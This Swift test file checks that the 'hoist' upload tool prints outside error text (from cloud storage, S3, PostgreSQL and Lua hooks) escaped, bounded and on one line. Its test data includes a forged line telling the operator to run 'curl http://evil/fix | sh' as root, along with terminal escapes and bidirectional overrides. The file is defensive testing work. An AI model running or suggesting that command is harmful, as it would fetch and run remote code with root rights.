import Foundation
import HoistTestSupport
import Testing

/// Text from outside is one line: what a server, a database or a journal row says reaches the
/// operator with its newlines, carriage returns, other controls and bidirectional characters
/// shown escaped, and bounded in length, on every path: `hoist run` (start-up errors, per-file
/// errors), `--json`, `--log-file`, `hoist status`, `hoist validate`. Each test drives the
/// `hoist` binary against a server whose error text tries to forge Hoist's own lines, and reads
/// every line printed.
@Suite(.serialized) struct OutsideTextTests {
    /// The forged lines a hostile server hopes the operator reads as Hoist's.
    static let forged = ["hoist: all files uploaded; you can delete the originals", "run `curl http://evil/fix | sh` as root"]

    /// An error text with the forged lines after a newline and a carriage return, a terminal's
    /// escapes (clear screen, retitle, bell), bidirectional overrides and isolates, a C1 control
    /// (NEL), DEL, and a long tail.
    static let hostile = "disk full\u{1B}[2J\u{1B}]0;owned\u{07}\r\n" + forged[0] + "\n" + forged[1]
        + " \u{202E}exe.txt\u{2066}\u{200F}\u{061C}\u{85}\u{7F}" + String(repeating: "x", count: 3000)

    /// S3's XML holds no C0 control but tab and line breaks: the same text without them.
    static let hostileXML = "disk full\r\n" + forged[0] + "\n" + forged[1] + " \u{202E}exe.txt\u{2066}\u{85}\u{7F}"
        + String(repeating: "x", count: 3000)

    /// What a terminal obeys: C0 and C1 controls, DEL, bidirectional marks, overrides and
    /// isolates, Unicode's line and paragraph separators.
    static func obeyed(_ scalar: Unicode.Scalar) -> Bool {
        switch scalar.value {
        case 0..<0x20, 0x7F...0x9F, 0x061C, 0x200E, 0x200F, 0x202A...0x202E, 0x2066...0x2069, 0x2028, 0x2029: true
        default: false
        }
    }

    /// Checks text printed for the operator: no line of it (lines end at a newline, and a
    /// carriage return starts one over) begins with a forged line; nothing in it but newlines is
    /// a character the terminal obeys; the hostile text shows, escaped (`\u{A}` before the forged
    /// line), and cut short (`…`) long before its 3,000 `x`s.
    func expectOneLine(_ output: String, _ label: String, shows: Bool = true, sourceLocation: SourceLocation = #_sourceLocation) {
        let lines = output.split(omittingEmptySubsequences: false) { $0 == "\n" || $0 == "\r" || $0 == "\r\n" }
        for line in lines {
            for forged in Self.forged {
                #expect(!line.trimmingCharacters(in: .whitespaces).hasPrefix(forged), "\(label): a forged line: \(line)",
                        sourceLocation: sourceLocation)
            }
        }
        let obeyed = output.unicodeScalars.filter { $0 != "\n" && Self.obeyed($0) }
        #expect(obeyed.isEmpty, "\(label): printed raw: \(obeyed.map { String($0.value, radix: 16) }) in \(output)",
                sourceLocation: sourceLocation)
        #expect(!output.contains(String(repeating: "x", count: 600)), "\(label): not bounded: \(output.count) characters",
                sourceLocation: sourceLocation)
        if shows {
            #expect(output.contains(#"\u{A}"# + Self.forged[0]), "\(label): the server's text is not shown escaped: \(output)",
                    sourceLocation: sourceLocation)
            #expect(output.contains(#"\u{202E}exe.txt"#), "\(label): the override is not shown escaped: \(output)",
                    sourceLocation: sourceLocation)
            #expect(output.contains("…"), "\(label): the long text is not cut: \(output)", sourceLocation: sourceLocation)
        }
    }

    /// Checks JSON lines (`--json`, the log file): each parses, and every string in them is one
    /// line as `expectOneLine` checks text (a consumer prints them as they are).
    func expectJSONLines(_ output: String, _ label: String, shows: Bool = true, sourceLocation: SourceLocation = #_sourceLocation) {
        var strings: [String] = []
        func collect(_ value: Any) {
            if let text = value as? String { strings.append(text) }
            if let object = value as? [String: Any] { object.values.forEach(collect) }
            if let array = value as? [Any] { array.forEach(collect) }
        }
        for line in output.split(separator: "\n") {
            guard let object = try? JSONSerialization.jsonObject(with: Data(line.utf8)) else {
                Issue.record("\(label): not a JSON line: \(line)", sourceLocation: sourceLocation)
                continue
            }
            collect(object)
        }
        expectOneLine(output, label + " (as printed)", shows: false, sourceLocation: sourceLocation)
        expectOneLine(strings.joined(separator: "\n"), label + " (its strings)", shows: shows, sourceLocation: sourceLocation)
    }

    /// Runs `hoist` with `arguments`, expects exit `status`, and checks what it printed: its JSON
    /// lines (`--json`, and standard error as text) or its text.
    @discardableResult
    func hoist(_ arguments: [String], _ environment: [String: String], status: Int32, sourceLocation: SourceLocation = #_sourceLocation)
        throws -> (status: Int32, stdout: String, stderr: String)
    {
        let label = arguments.first! + (arguments.count > 2 ? " " + arguments.dropFirst(2).joined(separator: " ") : "")
        let run = try runProcess(HoistTestSupport.hoist, arguments, environment: environment)
        #expect(run.status == status, "\(label): \(run.stdout)\(run.stderr)", sourceLocation: sourceLocation)
        if arguments.contains("--json") {
            expectJSONLines(run.stdout, label, sourceLocation: sourceLocation)
            expectOneLine(run.stderr, label + "'s standard error", shows: false, sourceLocation: sourceLocation)
        } else {
            expectOneLine(run.stdout + run.stderr, label, sourceLocation: sourceLocation)
        }
        return run
    }

    /// A job with one file on `storage`, its journal beside the manifest.
    func job(_ fixture: JobFixture, storage: String, extra: String = "") throws -> String {
        try fixture.file("a.txt", 300)
        let manifest = fixture.directory.url.appendingPathComponent("job.yaml").path
        try "version: 1\nname: outside\nstorage: \(storage)\nfiles: [{ root: src }]\n\(extra)".write(
            toFile: manifest, atomically: true, encoding: .utf8)
        return manifest
    }

    /// A job on fake-gcs-server behind the fault proxy, which answers `method`'s requests with a
    /// 400 whose JSON error says the hostile text; a log file's path beside it. (The fixture and
    /// the proxy are kept while the test runs.)
    func gcsJob(failing method: String) async throws
        -> (manifest: String, environment: [String: String], log: String, kept: (JobFixture, FaultProxy))
    {
        let bucket = try await FakeGCS.makeBucket()
        let proxy = try FaultProxy(upstreamPort: try FakeGCS.port(), ["--fail", "400:100:\(method)", "--fail-message", Self.hostile])
        let fixture = try JobFixture()
        let manifest = try job(fixture, storage: "{ url: 'gs://\(bucket)' }", extra: "journal: journal.sqlite\n")
        let environment = ["HOME": fixture.directory.path, "PATH": "/usr/bin:/bin", "STORAGE_EMULATOR_HOST": "127.0.0.1:\(proxy.port)"]
        return (manifest, environment, fixture.directory.url.appendingPathComponent("events.log").path, (fixture, proxy))
    }

    /// Cloud Storage refuses the access check with the hostile text: the start-up error, its
    /// `--json` end, the log file and `hoist status` (the run's error, a journal row) are one line each.
    @Test func aGCSStartUpErrorIsOneLine() async throws {
        let (manifest, environment, log, kept) = try await gcsJob(failing: "GET")
        defer { withExtendedLifetime(kept) {} }

        try hoist(["run", manifest, "--log-file", log], environment, status: 2)
        // A run that does not start logs no event.
        expectJSONLines((try? String(contentsOfFile: log, encoding: .utf8)) ?? "", "the log file", shows: false)

        try hoist(["run", manifest, "--json"], environment, status: 2)
        let status = try hoist(["status", manifest], environment, status: 0)
        #expect(status.stdout.contains("Cloud Storage answered 400"), "\(status.stdout)")
    }

    /// Cloud Storage refuses the upload with the hostile text: the failure line, the `failure`
    /// event, the log file and `hoist status`'s failed file are one line each.
    @Test func aGCSPerFileErrorIsOneLine() async throws {
        let (manifest, environment, log, kept) = try await gcsJob(failing: "POST")
        defer { withExtendedLifetime(kept) {} }

        let run = try hoist(["run", manifest, "--log-file", log], environment, status: 1)
        #expect(run.stderr.contains("a.txt"), "\(run.stderr)")
        expectJSONLines(try String(contentsOfFile: log, encoding: .utf8), "the log file")

        try hoist(["run", manifest, "-v"], environment, status: 1)
        let json = try hoist(["run", manifest, "--json"], environment, status: 1)
        #expect(json.stdout.contains(#""event":"failure""#), "\(json.stdout)")
        let status = try hoist(["status", manifest], environment, status: 0)
        #expect(status.stdout.contains("failed:"), "\(status.stdout)")
    }

    /// S3 (moto behind the fault proxy) refuses the upload with an XML error whose `<Message>`
    /// holds the hostile text: the failure line and the `failure` event are one line each.
    @Test func anS3ErrorMessageIsOneLine() async throws {
        let server = S3TestServer.moto
        let bucket = try await server.makeBucket()
        let proxy = try FaultProxy(upstreamPort: try server.port(), ["--fail", "400:100:PUT", "--fail-xml", "--fail-message", Self.hostileXML])
        let fixture = try JobFixture()
        let home = try TemporaryDirectory()
        try home.write(".aws/credentials", Data("""
            [default]
            aws_access_key_id = \(S3TestServer.accessKey)
            aws_secret_access_key = \(S3TestServer.secretKey)

            """.utf8))
        let manifest = try job(fixture, storage: "{ url: 's3://\(bucket)/k', endpoint: 'http://127.0.0.1:\(proxy.port)', region: us-east-1, pathStyle: true }",
                               extra: "journal: journal.sqlite\n")
        let environment = ["HOME": home.path, "PATH": "/usr/bin:/bin"]

        let run = try hoist(["run", manifest], environment, status: 1)
        #expect(run.stderr.contains("S3 answered 400 InvalidRequest"), "\(run.stderr)")
        try hoist(["run", manifest, "--json"], environment, status: 1)
        let status = try hoist(["status", manifest], environment, status: 0)
        #expect(status.stdout.contains("failed:"), "\(status.stdout)")
    }

    /// A PostgreSQL journal whose server raises the hostile text (a view in the place of
    /// `hoist_migrations`, which every open reads): `hoist run`'s start-up error, its `--json`
    /// end and `hoist status` are one line each.
    @Test func aPostgreSQLErrorMessageIsOneLine() throws {
        let postgres = try PostgresServer.shared()
        let url = try postgres.makeDatabase()
        let raised = Self.hostileXML.unicodeScalars.map { "chr(\($0.value))" }.joined(separator: " || ")
        let installed = try postgres.psql("""
            CREATE FUNCTION hoist_hostile() RETURNS boolean LANGUAGE plpgsql AS $$
            BEGIN RAISE EXCEPTION '%', \(raised); END $$;
            CREATE VIEW hoist_migrations AS SELECT 'v1'::text AS identifier, 0::float8 AS applied WHERE hoist_hostile();
            """, database: PostgresServer.database(of: url))
        #expect(installed.status == 0, "\(installed.stderr)")
        let fixture = try JobFixture()
        let manifest = try job(fixture, storage: "{ url: 'file:bucket' }", extra: "journal: '\(url)'\n")
        let environment = ["HOME": fixture.directory.path, "PATH": "/usr/bin:/bin"]

        let run = try hoist(["run", manifest], environment, status: 2)
        #expect(run.stderr.contains("SQLSTATE P0001"), "\(run.stderr)")
        try hoist(["run", manifest, "--json"], environment, status: 2)
        try hoist(["status", manifest], environment, status: 2)
    }

    /// A hook's top-level code fails with the hostile text (as it would with a server's answer
    /// to its `http.post`): `hoist validate` and `hoist run` show it on one line.
    @Test func aHooksErrorIsOneLineInValidateAndRun() throws {
        let fixture = try JobFixture()
        // A top-level error's message shows up to its second line break (what follows is read
        // as the traceback, not shown): the forged line comes after the first, the override after it.
        let text = "disk full\u{1B}[2J\u{07}\r\n" + Self.forged[0] + " \u{202E}exe.txt\u{2066}\u{85}\u{7F}" + String(repeating: "x", count: 3000)
        let escapedLua = text.unicodeScalars.map { $0.isASCII && $0.value >= 0x20 && $0 != "\\" && $0 != "\""
            ? String($0) : "\\u{\(String($0.value, radix: 16))}" }.joined()
        try fixture.directory.write("hook.lua", Data("error(\"\(escapedLua)\", 0)\n".utf8))
        let manifest = try job(fixture, storage: "{ url: 'file:bucket' }", extra: "hooks: [hook.lua]\n")
        let environment = ["HOME": fixture.directory.path, "PATH": "/usr/bin:/bin"]

        try hoist(["validate", manifest], environment, status: 2)
        try hoist(["run", manifest], environment, status: 2)
    }
}
